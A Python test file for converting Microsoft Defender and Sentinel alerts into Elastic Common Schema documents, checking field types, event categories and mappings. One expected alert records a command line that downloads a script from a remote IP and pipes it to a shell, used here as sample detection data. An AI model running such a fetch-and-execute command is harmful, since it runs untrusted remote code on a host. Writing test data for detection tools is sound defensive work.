from __future__ import annotations

import ipaddress
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given

from schemas.alert import Alert, Subscription
from schemas.entities import Details, Entity
from schemas.formats import ecs as module
from schemas.formats.ecs import VERSION, ecs
from schemas.kinds import understand
from tests.examples import EXAMPLES, encoded
from tests.fidelity.measure import parsed
from tests.fixtures import RESOURCE, SUBSCRIPTION, defender_alert, hostile
from tests.strategies import alerts

# "ECS categorization field: event.category" (elastic.co/docs/reference/ecs): the allowed values,
# and the event types that are expected with each.
TYPES = {
    "api": "access admin allowed change creation deletion denied end info start user",
    "authentication": "start end info",
    "configuration": "access change creation deletion info",
    "database": "access change info error",
    "driver": "change end info start",
    "email": "info",
    "file": "access change creation deletion info",
    "host": "access change end info start",
    "iam": "admin change creation deletion group info user",
    "intrusion_detection": "allowed denied info",
    "library": "start",
    "malware": "info",
    "network": "access allowed connection denied end info protocol start",
    "package": "access change deletion info installation start",
    "process": "access change end info start",
    "registry": "access change creation deletion",
    "session": "start end info",
    "threat": "indicator",
    "vulnerability": "info",
    "web": "access error info",
}
KINDS = {"alert", "asset", "enrichment", "event", "metric", "state", "pipeline_error", "signal"}
OUTCOMES = {"success", "failure", "unknown"}

# ECS 8.11 to 9.4, "ECS field reference": those fields that are written, by their type.
FIELDS = {
    name: kind
    for kind, names in {
        "date": "@timestamp event.created event.start event.end",
        "long": """event.severity event.duration source.port destination.port url.port process.pid
            process.parent.pid file.size http.response.status_code""",
        "float": "vulnerability.score.base",
        "ip": "source.ip destination.ip",
        "ips": "host.ip related.ip",
        "keywords": """event.category event.type threat.tactic.id threat.tactic.name
            threat.technique.id threat.technique.subtechnique.id host.mac related.hosts
            related.user related.hash email.from.address email.to.address registry.data.strings
            vulnerability.id vulnerability.category""",
        "keyword": """ecs.version message event.id event.kind event.action event.outcome event.code
            event.dataset event.module event.provider event.reason event.url event.original
            rule.name rule.category rule.ruleset threat.framework threat.group.name
            host.name host.hostname host.domain host.id host.os.name host.os.type
            user.name user.id user.domain user.email user.full_name user.target.name
            user.target.id user.target.domain user.target.email user.target.full_name
            source.address source.domain source.mac source.geo.city_name source.geo.region_name
            source.geo.country_name source.geo.country_iso_code destination.address
            destination.domain destination.mac destination.geo.city_name
            destination.geo.region_name destination.geo.country_name
            destination.geo.country_iso_code
            process.name process.executable process.command_line process.entity_id
            process.hash.md5 process.hash.sha1 process.hash.sha256 process.hash.sha512
            process.parent.name process.parent.executable process.parent.command_line
            process.parent.entity_id process.parent.hash.md5 process.parent.hash.sha1
            process.parent.hash.sha256 process.parent.hash.sha512
            file.name file.path file.directory file.hash.md5 file.hash.sha1 file.hash.sha256
            file.hash.sha512 url.original url.full url.scheme url.domain url.path url.query
            url.fragment registry.hive registry.key registry.value registry.path
            registry.data.type email.subject email.local_id email.message_id email.direction
            group.name group.id group.domain network.transport network.protocol
            network.iana_number network.direction http.request.method http.request.referrer
            user_agent.original vulnerability.description vulnerability.severity
            vulnerability.reference vulnerability.scanner.vendor package.name package.version
            observer.vendor observer.product observer.name organization.id cloud.account.id
            cloud.account.name cloud.instance.id cloud.instance.name cloud.region cloud.provider
            log.level""",
        "keyword or keywords": "rule.id",  # an incident can come of several rules
    }.items()
    for name in names.split()
}
NATIVE = {  # beyond ECS, as Elastic's integrations have them, and our own
    "azure.resource.group",
    "azure.resource.id",
    "azure.resource.name",
    "azure.resource.provider",
    "azure.correlation_id",
    "azure.subscription_id",
    "azure.tenant_id",
    "resource.id",
    "resource.name",
    "resource.type",
    "result.evaluation",
    "microsoft.kind",
    "microsoft.event_id",
    "microsoft.severity",
    "microsoft.status",
    "microsoft.subscription.owner",
    "microsoft.subscription.environment",
    "microsoft.subscription.management_group",
    "microsoft.subscription.tags",
}
DATE = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z")


def leaves(made: dict[str, Any], path: str = "") -> Iterator[tuple[str, Any]]:
    for name, value in made.items():
        if isinstance(value, dict):
            assert value, path + name
            yield from leaves(value, f"{path}{name}.")
        else:
            yield path + name, value


def fits(kind: str, value: Any) -> bool:
    if kind == "keyword or keywords":
        return fits("keyword", value) or fits("keywords", value)
    if kind in ("keywords", "ips"):
        inner = "ip" if kind == "ips" else "keyword"
        return isinstance(value, list) and bool(value) and all(fits(inner, it) for it in value)
    if kind in ("long", "float"):
        return isinstance(value, int if kind == "long" else float) and not isinstance(value, bool)
    if not isinstance(value, str) or not value:
        return False
    if kind == "ip":
        return str(ipaddress.ip_address(value)) == value
    return DATE.fullmatch(value) is not None if kind == "date" else True


def check(document: dict[str, Any]) -> None:
    """By ECS's published lists."""
    for name, value in leaves(document):
        if name in NATIVE:
            assert fits("keywords" if name.endswith(".tags") else "keyword", value), name
        else:
            assert fits(FIELDS[name], value), f"{name} is {value!r}"
    event = document["event"]
    assert event["kind"] in KINDS
    assert event.get("outcome", "unknown") in OUTCOMES
    categories = event.get("category", [])
    allowed = {kind for category in categories for kind in TYPES[category].split()}
    assert set(event.get("type", [])) <= allowed
    assert bool(categories) == ("type" in event)
    assert document["ecs"]["version"] == VERSION


def said(alert: Alert) -> dict[str, Any]:
    document: dict[str, Any] = json.loads(ecs(alert))
    check(document)
    assert document["event"].pop("original") == alert.raw.decode()
    return document


def example(name: str, **overrides: Any) -> dict[str, Any]:
    return said(understand(encoded(EXAMPLES[name].record(**overrides))))


def test_an_alert() -> None:
    record = defender_alert()
    alert = understand(encoded(record))
    alert.enqueued_ms = 1772619200000
    alert.subscription = Subscription(
        SUBSCRIPTION, "Shop", "ann@example.com", "production", "Retail", {"team": "web"}
    )
    assert said(alert) == {
        "ecs": {"version": "8.17.0"},
        "@timestamp": "2026-03-04T10:13:14.987Z",
        "message": record["Description"],
        "event": {
            "id": record["SystemAlertId"],
            "kind": "alert",
            "category": ["intrusion_detection"],
            "type": ["info"],
            "severity": 73,
            "code": "VM_SuspiciousDownload",
            "dataset": "microsoft_defender_cloud.event",
            "module": "microsoft_defender_cloud",
            "provider": "Microsoft Defender for Cloud",
            "created": "2026-03-04T10:13:20.000Z",
            "start": "2026-03-04T10:11:12.123Z",
            "end": "2026-03-04T10:12:00.500Z",
            "duration": 48_377_000_000,
            "url": record["AlertUri"],
        },
        "rule": {"name": record["AlertDisplayName"], "id": "VM_SuspiciousDownload"},
        "threat": {
            "framework": "MITRE ATT&CK",
            "tactic": {"id": ["TA0003", "TA0006"], "name": ["Persistence", "Credential Access"]},
        },
        "host": {"name": "shop-vm-1", "hostname": "shop-vm-1", "id": RESOURCE},
        "user": {"name": "svc-web", "domain": "SHOP-VM-1"},
        "source": {
            "address": "203.0.113.7",
            "ip": "203.0.113.7",
            "geo": {"country_iso_code": "NL"},
        },
        "process": {
            "pid": 8000,
            "name": "curl",
            "executable": "/usr/bin/curl",
            "command_line": "curl -s http://203.0.113.7/x | sh",
            "hash": {"md5": "0a" * 16},
        },
        "file": {
            "name": "curl",
            "path": "/usr/bin/curl",
            "directory": "/usr/bin",
            "hash": {"md5": "0a" * 16},
        },
        "related": {
            "hosts": ["shop-vm-1"],
            "ip": ["203.0.113.7"],
            "user": ["SHOP-VM-1\\svc-web", "svc-web"],
            "hash": ["0a" * 16],
        },
        "observer": {"vendor": "Microsoft", "product": "Microsoft Defender for Cloud"},
        "cloud": {
            "provider": "azure",
            "account": {"id": SUBSCRIPTION, "name": "Shop"},
            "instance": {"id": RESOURCE, "name": "shop-vm-1"},
        },
        "azure": {
            "subscription_id": SUBSCRIPTION,
            "resource": {
                "id": RESOURCE,
                "name": "shop-vm-1",
                "group": "rg-shop",
                "provider": "Microsoft.Compute/virtualMachines",
            },
        },
        "microsoft": {
            "kind": "defender_alert",
            "event_id": alert.event_id,
            "severity": "High",
            "status": "New",
            "subscription": {
                "owner": "ann@example.com",
                "environment": "production",
                "management_group": "Retail",
                "tags": ["team=web"],
            },
        },
    }


@pytest.mark.parametrize("name", EXAMPLES)
def test_every_kind_becomes_a_document_by_the_lists_of_ecs(name: str) -> None:
    document = example(name)
    assert document["microsoft"]["kind"] == name
    assert document["event"]["id"]


@pytest.mark.parametrize(
    ("name", "kind", "category", "types", "dataset"),
    [
        ("security_alert", "alert", "intrusion_detection", ["info"], "microsoft_sentinel.event"),
        ("graph_incident", "alert", "intrusion_detection", ["info"], "m365_defender.incident"),
        ("assessment", "state", "configuration", ["info"], "microsoft_defender_cloud.assessment"),
        (
            *("sub_assessment", "state", "vulnerability", ["info"]),
            "microsoft_defender_cloud.assessment",
        ),
        ("attack_path", "state", "configuration", ["info"], "microsoft_defender_cloud.event"),
        ("entra_log", "event", "authentication", ["start"], "azure.signinlogs"),
        ("graph_entra", "event", "iam", ["group", "change"], "azure.auditlogs"),
        ("office_activity", "event", "authentication", ["start"], "o365.audit"),
        ("resource_log", "event", "api", ["info"], "azure.platformlogs"),
        ("security_event", "event", "process", ["start"], "system.security"),
        ("windows_event", "event", "process", ["start"], "windows.sysmon_operational"),
        ("windows_xml", "event", "authentication", ["start"], "system.security"),
        ("syslog", "event", "authentication", ["start"], "system.auth"),
        ("xdr", "event", "process", ["start"], "m365_defender.event"),
    ],
)
def test_what_happened(name: str, kind: str, category: str, types: list[str], dataset: str) -> None:
    event = example(name)["event"]
    assert event["kind"] == kind
    assert event["category"] == [category]
    assert event["type"] == types
    assert event["dataset"] == dataset


@pytest.mark.parametrize(
    ("table", "categories"),
    [
        ("AlertEvidence", ["threat"]),
        ("DeviceRegistryEvents", ["registry"]),
        ("DeviceImageLoadEvents", ["library"]),
        ("DeviceEvents", ["host"]),
        ("IdentityQueryEvents", ["iam"]),
        ("ExposureGraphNodes", None),
    ],
)
def test_a_row_that_no_class_fits_goes_by_its_table(
    table: str, categories: list[str] | None
) -> None:
    row = {"time": "2026-03-04T10:20:00Z", "category": f"AdvancedHunting-{table}"}
    document = said(understand(encoded(row | {"properties": {"Timestamp": row["time"]}})))
    assert document["event"].get("category") == categories


def test_posture_says_how_it_was_evaluated_and_of_what() -> None:
    document = example("sub_assessment")
    assert document["result"] == {"evaluation": "failed"}
    assert document["event"]["outcome"] == "failure"
    assert document["resource"]["name"] == "shopimages"
    assert document["vulnerability"]["id"] == ["CVE-2026-0001", "CVE-2026-0002"]
    assert document["vulnerability"]["score"] == {"base": 9.8}
    assert document["package"] == {"name": "libshop", "version": "2.0"}


def test_a_started_process_has_its_parent() -> None:
    process = example("xdr")["process"]
    assert (process["name"], process["pid"]) == ("whoami.exe", 4712)
    assert (process["parent"]["name"], process["parent"]["pid"]) == ("PowerShell.exe", 4711)


def test_who_did_it_and_whom_it_was_done_to() -> None:
    user = example("graph_entra")["user"]
    assert user["email"] == "alice@example.com"
    assert user["target"]["email"] == "bob@example.com"


def test_a_sign_in() -> None:
    document = example("entra_log")
    assert document["event"]["outcome"] == "failure"
    assert document["event"]["reason"] == "Strong authentication is required."
    assert document["source"]["geo"]["city_name"] == "Paris"
    assert document["organization"] == {"id": "22222222-0000-4000-8000-000000000003"}
    assert "network" not in document  # its protocol is one of authentication


def test_the_ends_of_a_connection() -> None:
    document = example("common_security_log")
    source, destination = document["source"], document["destination"]
    assert (source["ip"], source["port"]) == ("10.0.0.7", 50123)
    assert source["mac"] == "02-00-00-00-00-07"
    assert (destination["ip"], destination["port"]) == ("198.51.100.80", 443)
    assert document["network"] == {"transport": "tcp"}
    assert document["observer"]["name"] == "fw-1.corp.example"


def test_what_a_record_mentions_each_in_its_field(monkeypatch: pytest.MonkeyPatch) -> None:
    known = Details(
        entities=(
            Entity(type="ip", name="not an address"),
            Entity(type="ip", name="2001:DB8::7%eth0", port="0x10"),
            Entity(type="domain", name="evil.example", role="target"),
            Entity(type="host", name="pc-1", attributes={"OSFamily": "Linux", "ip": "10.0.0.1"}),
            Entity(type="url", name="https://user:pw@[2001:db8::1]:8443/a?b=c#d"),
            Entity(type="registry", path="HKEY_LOCAL_MACHINE\\SOFTWARE\\Run", name="odd"),
            Entity(type="message", name="Invoice", id="m-1"),
            Entity(type="mailbox", name="eve@evil.example", role="source"),
            Entity(type="mailbox", name="ann@corp.example", role="target"),
            Entity(type="malware", name="Odd.A"),
            Entity(type="file", name="x.exe", attributes={"fileSize": "4096"}, hashes=("1b" * 20,)),
            Entity(type="group", name="Ops", id="g-1"),
        ),
        action="Detected",
        outcome="success",
        attributes={
            "protocol": "TcpV4",
            "direction": "Inbound",
            "http_method": "GET",
            "http_status": "404",
            "user_agent": "curl/8",
            "cloud": "AWS",
            "location": "eu-west-1",
        },
    )
    monkeypatch.setattr(module, "details", lambda alert: known)
    document = said(understand(encoded(defender_alert())))
    assert document["event"]["category"] == ["intrusion_detection", "malware"]
    assert document["event"]["action"] == "Detected"
    assert document["source"] == {
        "address": "2001:db8::7",
        "ip": "2001:db8::7",
        "port": 16,
    }
    assert document["destination"] == {"address": "evil.example", "domain": "evil.example"}
    assert document["host"]["os"] == {"name": "Linux", "type": "linux"}
    assert document["host"]["ip"] == ["10.0.0.1"]
    assert document["url"] == {
        "original": "https://user:pw@[2001:db8::1]:8443/a?b=c#d",
        "full": "https://user:pw@[2001:db8::1]:8443/a?b=c#d",
        "scheme": "https",
        "domain": "[2001:db8::1]",
        "port": 8443,
        "path": "/a",
        "query": "b=c",
        "fragment": "d",
    }
    assert document["registry"] == {
        "hive": "HKLM",
        "key": "SOFTWARE\\Run",
        "value": "odd",
        "path": "HKLM\\SOFTWARE\\Run\\odd",
    }
    assert document["email"] == {
        "subject": "Invoice",
        "local_id": "m-1",
        "from": {"address": ["eve@evil.example"]},
        "to": {"address": ["ann@corp.example"]},
    }
    assert document["file"] == {"name": "x.exe", "size": 4096, "hash": {"sha1": "1b" * 20}}
    assert document["group"] == {"name": "Ops", "id": "g-1"}
    assert document["network"] == {"transport": "tcp", "direction": "inbound"}
    assert document["http"] == {"request": {"method": "GET"}, "response": {"status_code": 404}}
    assert document["user_agent"] == {"original": "curl/8"}
    assert document["related"]["ip"] == ["2001:db8::7"]
    assert document["related"]["hosts"] == ["pc-1", "evil.example"]
    assert document["cloud"]["provider"] == "aws"
    assert document["cloud"]["region"] == "eu-west-1"


def test_times_of_0_are_left_out() -> None:
    alert = understand(encoded(defender_alert()))
    alert = msgspec.structs.replace(alert, event_ms=0, start_ms=0, end_ms=0)
    document = said(alert)
    assert "@timestamp" not in document
    assert not {"created", "start", "end", "duration"} & set(document["event"])


@pytest.mark.parametrize("text", hostile())
def test_hostile_text_stays_text(text: str) -> None:
    document = example("defender_alert", AlertDisplayName=text, Description=text, Severity=text)
    assert document["message"] == text
    assert document["rule"]["name"] == text
    assert document["microsoft"]["severity"] == text


@given(alerts())
def test_any_alert_becomes_a_document_by_the_lists_of_ecs(alert: Alert) -> None:
    said(alert)


def test_every_sample_becomes_a_document_by_the_lists_of_ecs(shared: Path) -> None:
    for file in sorted((shared / "samples").glob("*/*")):
        for alert in parsed(file.read_bytes())[0]:
            said(alert)


def test_an_alert_as_elastic_puts_it(shared: Path) -> None:
    """Where Elastic's integration is a list, since it takes all of a kind, ours is the first."""
    name = "elastic/microsoft_defender_cloud__event__KEYFIELDS.json"
    peer = json.loads((shared / "expected" / name).read_text())["expected"][4]
    file = "elastic_integrations__microsoft_defender_cloud__event__test-alert.log"
    alert = parsed((shared / "samples/mdc_continuous_export" / file).read_bytes())[0][4]
    document = dict(leaves(said(alert)))
    assert document["event.provider"] == peer["event.provider"]
    assert document["event.start"] == peer["event.start"]
    assert document["event.id"] == peer["system.alert_id"]
    assert document["event.code"] == peer["alert_type"]
    assert document["host.hostname"] in peer["host.hostname"]
    assert document["observer.vendor"] == peer["observer.vendor"]
    assert set(peer["related.ip"]) <= set(document["related.ip"])
    assert "Sample-VM" in document["related.hosts"]
    assert document["microsoft.severity"] == peer["severity"]
    assert document["microsoft.status"] == peer["status"]
    assert document["azure.resource.id"] == peer["azure_resource_id"]


def test_a_sentinel_alert_as_elastic_puts_it(shared: Path) -> None:
    name = "elastic/microsoft_sentinel__event__KEYFIELDS.json"
    (peer,) = json.loads((shared / "expected" / name).read_text())["expected"]
    file = "elastic_integrations__microsoft_sentinel__event__test-event.log"
    (alert,) = parsed((shared / "samples/la_securityalert" / file).read_bytes())[0]
    document = dict(leaves(said(alert)))
    same = ("@timestamp", "event.start", "event.end", "event.id", "event.kind", "event.duration")
    for field in (*same, "event.provider", "observer.vendor", "observer.product"):
        assert document[field] == peer[field], field
